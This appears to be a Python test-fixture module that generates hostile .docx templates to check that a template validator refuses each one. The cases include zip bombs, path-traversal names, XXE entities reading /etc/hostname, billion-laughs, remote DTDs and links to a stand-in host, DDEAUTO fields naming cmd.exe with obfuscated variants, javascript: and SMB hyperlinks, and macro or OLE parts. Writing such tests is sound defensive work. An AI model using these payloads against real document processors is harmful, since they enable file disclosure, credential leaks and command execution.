"""Hostile templates, made from one good one by operators: what is done to its package, and what refuses it.

    the members of a good template  ->  the members, or the bytes, of a hostile one

``HARMLESS`` are those that need no refusal, each with the reason that its test proves. The tables are long
because each row is another way in; what the rows are put together from is in operators.py.
"""

from __future__ import annotations

import zipfile
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

import packages
from broken_zips import bomb, compressed, doubled, encrypted, named, overlapping, repacked
from operators import HEADER, MAIN_RELS, RELS, SETTINGS, STYLES, both, linked, put, related, with_member
from packages import CONTENT_TYPES, MAIN_PART
from word_fields import field, inner, mark, runs, simple

if TYPE_CHECKING:
    from collections.abc import Callable

    from operators import Members, Operator

    #: What is done to a good template may leave no package.
    Breaking = Callable[[Members], Members | bytes]

CORE = "docProps/core.xml"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
ADDRESS = "http://192.0.2.1/a"


@dataclass(frozen=True, slots=True)
class Attack:
    """What is done to a good template, the code that refuses it, and the part that is told (None: none)."""

    operator: Breaking
    code: str
    part: str | None = None


def in_body(markup: str) -> Operator:
    """Return what puts markup at the beginning of the body."""
    return put(MAIN_PART, "<w:body>", f"<w:body>{markup}")


def in_header(markup: str) -> Operator:
    """Return what puts markup at the beginning of a header."""
    return put(HEADER, "<w:p>", f"{markup}<w:p>")


def dtd(name: str, declared: str) -> Operator:
    """Return what puts a document type before the root of a part."""

    def changed(members: Members) -> Members:
        text = members[name].decode()
        head, rest = text.split("?>", 1) if text.startswith("<?xml") else ('<?xml version="1.0"', text)
        return {**members, name: f"{head}?><!DOCTYPE a [{declared}]>{rest}".encode()}

    return changed


def encoded(name: str, encoding: str, operator: Operator) -> Operator:
    """Return what does something to a part and writes it in another encoding."""

    def changed(members: Members) -> Members:
        done = operator(members)
        text = done[name].decode()
        body = text.split("?>", 1)[1] if text.startswith("<?xml") else text
        return {**done, name: f'<?xml version="1.0" encoding="{encoding}"?>{body}'.encode(encoding)}

    return changed


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)
XXE = '<!ENTITY x SYSTEM "file:///etc/hostname">'
LAUGHS = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
BINDING = (
    '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a/b" w:storeItemID="{1}"/></w:sdtPr>'
    "<w:sdtContent><w:p><w:r><w:t>x</w:t></w:r></w:p></w:sdtContent></w:sdt>"
)
MERGE = (
    "<w:mailMerge><w:mainDocumentType w:val='formLetters'/><w:dataType w:val='native'/>"
    "<w:connectString w:val='DSN=secret'/><w:query w:val='SELECT 1'/></w:mailMerge>"
)

_LINKS = (
    "image", "attachedTemplate", "oleObject", "frame", "subDocument", "video", "audio", "mailMergeSource",
    "mailMergeHeaderSource", "externalLink", "xmlMaps", "transform", "settings", "styles", "header", "theme",
    "hyperlinkBase",
)  # fmt: skip
_ZIP: dict[str, Attack] = {
    "a member that says it is small": Attack(bomb(lying=True), "T001"),
    "a member that is too large": Attack(bomb(lying=False), "T004"),
    "members that overlap": Attack(overlapping, "T001"),
    "a thousand times too many members": Attack(
        lambda members: {**members, **{f"word/media/{n}.png": b"" for n in range(3000)}}, "T004"
    ),
    "a nested zip": Attack(
        with_member("word/a.bin", packages.zipped({"a": bytes(10**6)})), "T005", "word/a.bin"
    ),
    "a main part of millions of elements": Attack(in_body("<w:r/>" * 1_100_000), "T004", MAIN_PART),
    "a part of millions of elements that is not rendered": Attack(
        with_member("customXml/item1.xml", b"<a>" + b"<b/>" * 1_100_000 + b"</a>", "application/xml"),
        "T004",
        "customXml/item1.xml",
    ),
    "an element of very many attributes": Attack(
        in_body("<w:p " + " ".join(f'w:a{number}="x"' for number in range(2000)) + "/>"), "T004", MAIN_PART
    ),
    "tags that never end": Attack(
        in_body("<w:p><w:r><w:t>" + "{{ x " * 100_000 + "</w:t></w:r></w:p>"), "T011", MAIN_PART
    ),
    "elements in one another": Attack(in_body("<w:sdt>" * 5000 + "</w:sdt>" * 5000), "T006", MAIN_PART),
    "the main part twice": Attack(doubled(MAIN_PART, MAIN_PART), "T003"),
    "the main part twice, in capitals": Attack(doubled(MAIN_PART, MAIN_PART.upper()), "T003"),
    "a way up": Attack(named("../../evil.xml"), "T085"),
    "a way up within": Attack(named("word/../../evil.xml"), "T085"),
    "a way from the root": Attack(named("/etc/evil"), "T085"),
    "a way of Windows": Attack(named("word\\..\\..\\evil.xml"), "T085"),
    "a drive": Attack(named("C:/evil.xml"), "T085"),
    "a share": Attack(named("//server/share/evil.xml"), "T085"),
    "a stream": Attack(named("word/document.xml:evil"), "T085"),
    "a name that ends in its middle": Attack(named("word/a.xml\x00.png"), "T085"),
    "a name with a line feed": Attack(named("word/a\nb.xml"), "T085"),
    "a name that a terminal obeys": Attack(named("word/\x1b[31m.xml"), "T085"),
    "a very long name": Attack(lambda members: {**members, "word/" + "x" * 300: b""}, "T085"),
    "encrypted members": Attack(repacked(encrypted), "T001"),
    "another file before it": Attack(repacked(lambda data: b"<html>" + data), "T001"),
    "members compressed as bzip2": Attack(compressed(zipfile.ZIP_BZIP2), "T001"),
    "members compressed as lzma": Attack(compressed(zipfile.ZIP_LZMA), "T001"),
    "a document with a password": Attack(lambda _: OLE, "T010"),
    "a cut archive": Attack(repacked(lambda data: data[:-30]), "T001"),
    "content that is not what its sum says": Attack(
        repacked(lambda data: data.replace(b"<w:body>", b"<w:bodx>", 1)), "T001"
    ),
}
_XML: dict[str, Attack] = {
    **{f"an entity of a file in {name}": Attack(dtd(name, XXE), "T006", name)
       for name in (CONTENT_TYPES, RELS, MAIN_RELS, MAIN_PART, HEADER, SETTINGS, STYLES, CORE)},
    "entities of entities": Attack(
        both(dtd(MAIN_PART, LAUGHS), in_body("<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>")), "T006", MAIN_PART
    ),
    "entities of a parameter": Attack(
        dtd(HEADER, f'<!ENTITY % x SYSTEM "{ADDRESS}"> %x;'), "T006", HEADER
    ),
    "a document type elsewhere": Attack(
        put(STYLES, "<w:styles", f'<!DOCTYPE a SYSTEM "{ADDRESS}"><w:styles'), "T006", STYLES
    ),
    "a document type in two bytes a letter": Attack(
        encoded(SETTINGS, "utf-16", put(SETTINGS, "<w:settings", "<!DOCTYPE a [<!ENTITY b ''>]><w:settings")),
        "T006", SETTINGS,
    ),
    "a document type in a part of another name": Attack(
        with_member("word/a.dat", f"<!DOCTYPE a [{XXE}]><a>&x;</a>".encode(), "application/a+xml"),
        "T006", "word/a.dat",
    ),
    "a document type in a drawing": Attack(
        with_member("word/media/a.svg", f"<!DOCTYPE svg [{XXE}]><svg>&x;</svg>".encode(), "image/svg+xml"),
        "T006", "word/media/a.svg",
    ),
    "a document type in relationships of nothing": Attack(
        lambda members: {**members, "word/_rels/gone.xml.rels": f"<!DOCTYPE a [{XXE}]><a/>".encode()},
        "T006", "word/_rels/gone.xml.rels",
    ),
    "markup that is not closed": Attack(put(HEADER, "</w:hdr>", ""), "T006", HEADER),
    "bytes that are no letters": Attack(
        lambda members: {**members, HEADER: members[HEADER].replace(b"<w:p>", b"\xff<w:p>", 1)},
        "T006", HEADER,
    ),
    "a tag in a relationship": Attack(
        linked("hyperlink", "https://example.org/{{ x }}"), "T019", MAIN_RELS
    ),
    "a tag in a content type": Attack(
        put(CONTENT_TYPES, "</Types>", "<!--{{ x }}--></Types>"), "T019", CONTENT_TYPES
    ),
}  # fmt: skip
_OUTSIDE: dict[str, Attack] = {
    **{f"a link: {kind}": Attack(linked(kind, ADDRESS), "T007", MAIN_RELS) for kind in _LINKS},
    "a link of the package": Attack(linked("thumbnail", ADDRESS, of=RELS), "T007", RELS),
    "a link of the settings": Attack(
        linked("attachedTemplate", "file://server/share/evil.dotm", of="word/_rels/settings.xml.rels"),
        "T007", "word/_rels/settings.xml.rels",
    ),
    "a link of the frames of a page": Attack(
        both(with_member("word/webSettings.xml", b"<w:webSettings xmlns:w='urn:a'/>", "application/xml"),
             linked("frame", ADDRESS, of="word/_rels/webSettings.xml.rels")),
        "T007", "word/_rels/webSettings.xml.rels",
    ),
    "a link to a share": Attack(linked("image", "\\\\server\\share\\a.png"), "T007", MAIN_RELS),
    "a link to a file": Attack(linked("image", "file:///etc/hostname"), "T007", MAIN_RELS),
    "a part of another format": Attack(
        both(with_member("word/a.html", b"<script/>", "text/html"), related("aFChunk", "a.html")),
        "T007", MAIN_RELS,
    ),
    "a source of letters": Attack(put(SETTINGS, "</w:settings>", f"{MERGE}</w:settings>"), "T007", SETTINGS),
    "a picture of VML by its address": Attack(
        in_body(f'<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
                f'<v:imagedata src="{ADDRESS}"/></v:shape></w:pict></w:r></w:p>'),
        "T007", MAIN_PART,
    ),
    "a drawing that leads out": Attack(
        with_member("word/media/a.svg", f'<svg><image href="{ADDRESS}"/></svg>'.encode(), "image/svg+xml"),
        "T007", "word/media/a.svg",
    ),
    **{f"a hyperlink: {target}": Attack(linked("hyperlink", target), "T082", MAIN_RELS)
       for target in ("file:///C:/Windows/System32/calc.exe", "\\\\server\\share\\a", "//server/a", "a.exe",
                      "javascript:alert(1)", "ms-word:ofe|u|http://a", "search-ms:query=a",
                      "data:text/html,a", "smb://server/a", "http:\\\\server\\a")},
    "a hyperlink of VML": Attack(
        in_body('<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="file://a/b"/>'
                "</w:pict></w:r></w:p>"),
        "T082", MAIN_PART,
    ),
}  # fmt: skip
_FIELDS: dict[str, Attack] = {
    **{f"a field: {name}": Attack(in_body(field(f' {name} "{ADDRESS}" ')), "X504", MAIN_PART)
       for name in ("DDE", "DDEAUTO", "INCLUDETEXT", "INCLUDEPICTURE", "LINK", "IMPORT", "DATABASE",
                    "AUTOTEXT", "MACROBUTTON", "EMBED", "CONTROL", "RD", "PRINT", "ADDIN", "ASK", "FILLIN",
                    "AUTOTEXTLIST")},
    "a simple field": Attack(in_body(simple("DDEAUTO c:\\\\cmd.exe")), "X504", MAIN_PART),
    "a field in small letters": Attack(in_body(field("ddeAuto a")), "X504", MAIN_PART),
    "a field in letters by number": Attack(in_body(field("&#68;D&#x45;AUTO a")), "X504", MAIN_PART),
    "a field over runs": Attack(in_body(field("D", "DE", "AU", "TO a")), "X504", MAIN_PART),
    "a field in a field": Attack(
        in_body(f"<w:p>{mark('begin')}{runs('IF 1 = 1 ')}{inner('DDEAUTO a')}{mark('end')}</w:p>"),
        "X504", MAIN_PART,
    ),
    "a field in what a field shows": Attack(
        in_body(f"<w:p>{mark('begin')}{runs('PAGE')}{mark('separate')}{inner('LINK a')}{mark('end')}</w:p>"),
        "X504", MAIN_PART,
    ),
    "a field over paragraphs": Attack(
        in_body(f"<w:p>{mark('begin')}{runs('INCLUDE')}</w:p><w:p>{runs('TEXT a')}{mark('end')}</w:p>"),
        "X504", MAIN_PART,
    ),
    "a field that was deleted": Attack(
        in_body(f'<w:p><w:del w:id="1" w:author="a">{inner("DDE a", tag="delInstrText")}</w:del></w:p>'),
        "X504", MAIN_PART,
    ),
    "a field in a header": Attack(in_header(field("INCLUDEPICTURE a")), "X504", HEADER),
    "a field that another one names": Attack(
        in_body(f"<w:p>{mark('begin')}{inner('QUOTE 68 68 69')}{runs(' a b')}{mark('end')}</w:p>"),
        "T086", MAIN_PART,
    ),
    "a field in quotation marks": Attack(in_body(field('"DDEAUTO" a')), "T086", MAIN_PART),
    "a field behind a letter that is not seen": Attack(in_body(field("\u200bDDEAUTO a")), "T086", MAIN_PART),
    "a field that nobody knows": Attack(in_body(field("EXECUTE a")), "T086", MAIN_PART),
    "a field to a file": Attack(in_body(field('HYPERLINK "file:///c:/a.exe"')), "T082", MAIN_PART),
    "a field to a share": Attack(in_body(field("HYPERLINK \\\\\\\\server\\\\a")), "T082", MAIN_PART),
    "a field to a file after its switches": Attack(
        in_body(field('HYPERLINK \\o "b" "file://server/a"')), "T082", MAIN_PART
    ),
    "a simple field to a script": Attack(
        in_body(simple("HYPERLINK &quot;javascript:a&quot;")), "T082", MAIN_PART
    ),
}  # fmt: skip
_MORE: dict[str, Attack] = {
    "a program by its name": Attack(with_member("word/vbaProject.bin", OLE), "T005"),
    "a program by its content type": Attack(
        with_member("word/a.bin", b"x", "application/vnd.ms-office.vbaProject"), "T005", "word/a.bin"
    ),
    "a program by its relationship": Attack(
        both(with_member("word/a.png", b"x", "image/png"),
             related(f"{MICROSOFT}/vbaProject", "a.png")),
        "T005", MAIN_RELS,
    ),
    "a program by its bytes": Attack(with_member("word/media/a.png", b"MZ" + bytes(64), "image/png"),
                                     "T005", "word/media/a.png"),
    "an object of old as a picture": Attack(with_member("word/media/a.emf", OLE, "image/x-emf"),
                                            "T005", "word/media/a.emf"),
    "an object by its relationship": Attack(
        both(with_member("word/a.png", b"x", "image/png"), related("oleObject", "a.png")),
        "T005", MAIN_RELS,
    ),
    "an embedded workbook": Attack(
        both(with_member("word/a.dat", b"x"), related("package", "a.dat")), "T005", MAIN_RELS
    ),
    "a control": Attack(
        with_member("word/a.xml", b"<a/>", "application/vnd.ms-office.activeX+xml"), "T005", "word/a.xml"
    ),
    "keys with commands": Attack(
        both(with_member("word/customizations.xml", b"<a/>",
                         "application/vnd.ms-word.keyMapCustomizations+xml"),
             related(f"{MICROSOFT}/keyMapCustomizations", "customizations.xml")),
        "T005", MAIN_RELS,
    ),
    "an extension of the web": Attack(
        both(with_member("word/we.xml", b"<a/>", "application/vnd.ms-office.webextension+xml"),
             related("http://schemas.microsoft.com/office/2011/relationships/webextension", "word/we.xml",
                     of=RELS)),
        "T005", RELS,
    ),
    "a ribbon with commands": Attack(
        both(with_member("customUI/a.xml", b"<a/>", "application/xml"),
             related("http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
                     "customUI/a.xml", of=RELS)),
        "T005", RELS,
    ),
    "a document with macros": Attack(
        put(CONTENT_TYPES, "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "vnd.ms-word.document.macroEnabled.main+xml"),
        "T005", MAIN_PART,
    ),
    "text that data replaces": Attack(in_body(BINDING), "T083", MAIN_PART),
    "text of a header that data replaces": Attack(in_header(BINDING), "T083", HEADER),
    "text that data of a new kind replaces": Attack(
        in_body(BINDING.replace("w:dataBinding", "n:dataBinding").replace(
            "<w:sdt>", '<w:sdt xmlns:n="http://schemas.microsoft.com/office/word/2012/wordml">')),
        "T083", MAIN_PART,
    ),
    "a signature": Attack(
        both(with_member("_xmlsignatures/origin.sigs", b"",
                         "application/vnd.openxmlformats-package.digital-signature-origin"),
             related("http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin",
                     "_xmlsignatures/origin.sigs", of=RELS)),
        "T084", RELS,
    ),
    "a header that says it is a picture": Attack(
        put(CONTENT_TYPES, "wordprocessingml.header+xml", "wordprocessingml.footer+xml"), "T056", MAIN_RELS
    ),
    "a main part that says it is a picture": Attack(
        put(CONTENT_TYPES, "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "image/png"),
        "T002", MAIN_PART,
    ),
    "a part with two content types": Attack(
        put(CONTENT_TYPES, "</Types>", f'<Override PartName="/{HEADER}" ContentType="text/html"/></Types>'),
        "T025", CONTENT_TYPES,
    ),
    "a member without a content type": Attack(
        lambda members: {**members, "word/media/a.exe": b"x"}, "T056", CONTENT_TYPES
    ),
    "a template of Word": Attack(
        put(CONTENT_TYPES, "wordprocessingml.document.main+xml", "wordprocessingml.template.main+xml"), "T010"
    ),
    "two main parts": Attack(related("officeDocument", "word/header2.xml", of=RELS), "T002", RELS),
    "a relationship to nothing": Attack(related("header", "gone.xml"), "T008", MAIN_RELS),
    "a relationship twice": Attack(
        both(related("theme", "document.xml"), related("theme", "document.xml")),
        "T020", MAIN_RELS,
    ),
    "a way up in a relationship": Attack(
        related("header", "../../../etc/hostname"), "T008", MAIN_RELS
    ),
}  # fmt: skip

#: Every attack by what it is.
ATTACKS: dict[str, Attack] = {**_ZIP, **_XML, **_OUTSIDE, **_FIELDS, **_MORE}

_INSTRUCTION = '<?xml-stylesheet href="http://192.0.2.1/a.xsl" type="text/xsl"?>'
#: What is let through, and why it does no harm.
HARMLESS: dict[str, tuple[Operator, str]] = {
    "an instruction for style in the main part": (
        put(MAIN_PART, "<w:document", f"{_INSTRUCTION}<w:document"),
        "the parts that are rendered are written without instructions",
    ),
    "an instruction for style in another part": (
        put(STYLES, "<w:styles", f"{_INSTRUCTION}<w:styles"),
        "Word and LibreOffice read no instructions in parts of a package",
    ),
    "a hyperlink to a page": (linked("hyperlink", "https://example.org/a"), "it waits for its reader"),
    "a field to a page": (in_body(field('HYPERLINK "https://example.org/a"')), "it waits for its reader"),
    "a field to a place in the document": (in_body(field('HYPERLINK \\l "a"')), "it leads nowhere else"),
    "bytes after the archive's end": (
        lambda members: packages.zipped(members)[:-2] + b"\x05\x00MZxxx",
        "documents are packed anew from the members",
    ),
    "data of the author that nothing is bound to": (
        with_member("customXml/item1.xml", b"<a>b</a>", "application/xml"),
        "no control takes its text from it",
    ),
}


#: Tags that would work without end, with the data that they are given: the limits of a document stop them.
BOMBS: dict[str, tuple[str, dict[str, Any]]] = {
    "lists of lists": ("{% set a = [1] %}" + "{% set a = [a, a] %}" * 30 + "{% if a == a %}а{% endif %}", {}),
    "a condition in a loop": (
        "{% for i in xs %}{% if i %}" + "а" * 10_000 + "{% endif %}{% endfor %}",
        {"xs": [1] * 100_000},
    ),
    "a filter in a loop": (
        "{% for i in xs %}{{ x | upper }}{% endfor %}",
        {"xs": [1] * 100_000, "x": "а" * 10_000},
    ),
    "line feeds": ("{{ x }}", {"x": "\n" * 4_000_000}),
    "one long text": ("{{ x }}", {"x": "а" * 4_900_000}),
    "letters as a format": ("{% if x is odd %}а{% endif %}", {"x": "%2000000000d"}),
    "a search in a loop": (
        "{% for i in xs %}{% if 5 in ys %}а{% endif %}{% endfor %}",
        {"xs": [1] * 100_000, "ys": [1] * 100_000},
    ),
    "codes": ("{% for i in xs %}{{ 'а' | qr }}{% endfor %}", {"xs": [1] * 2000}),
}


def hostile(operator: Breaking, members: Members) -> bytes:
    """Return the bytes of a hostile template."""
    found = operator(members)
    return found if isinstance(found, bytes) else packages.zipped(found)
